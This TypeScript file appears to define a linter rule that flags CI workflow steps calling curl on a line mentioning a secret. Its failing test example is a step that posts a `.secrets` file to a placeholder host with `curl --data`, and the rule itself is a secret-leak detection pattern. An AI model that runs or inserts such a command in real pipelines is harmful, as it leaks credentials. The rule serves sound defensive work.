import { Scalar } from '@gatehouse/source';
import { Span } from '../../../model/workflow/index.ts';
import { stepRule } from '../define.ts';
import { stepsExample } from '../example.ts';

export const curlWithSecret = stepRule({
  id: 'workflow/curl-with-secret',
  title: 'A script sends a secret away with curl',
  severity: 'medium',
  profile: 'all',
  why: 'A line that speaks of a secret and calls curl may be what leaks it: to the wrong host, into the log, or into the process list.',
  fix: 'Send secrets only to where they belong, from a variable under `env:`, in a header file or on standard input.',
  references: [
    'https://docs.github.com/en/actions/reference/security/secure-use#use-secrets-for-sensitive-information',
  ],
  aliases: ['CKV_GHA_3'],
  tags: ['CWE-522'],
  check(step, report) {
    const { run } = step;
    if (!(run instanceof Scalar) || !run.text.includes('curl')) return;
    let start = 0;
    for (const line of run.text.split('\n')) {
      if (line.includes('curl') && line.includes('secret')) {
        report.fail(
          new Span(run, start, start + line.length),
          `${step.label} calls curl on a line that speaks of a secret`,
        );
        return;
      }
      start += line.length + 1;
    }
  },
  examples: {
    fail: [
      stepsExample(
        'A file of secrets is posted',
        '- run: |\n    ls\n    curl --data @.secrets https://example.com',
      ),
    ],
    pass: [
      stepsExample('Nothing secret', '- run: curl --fail https://example.com/health'),
      stepsExample(
        'The secret is on another line',
        '- run: |\n    cat secrets.txt\n    curl https://example.com/health',
      ),
    ],
  },
});
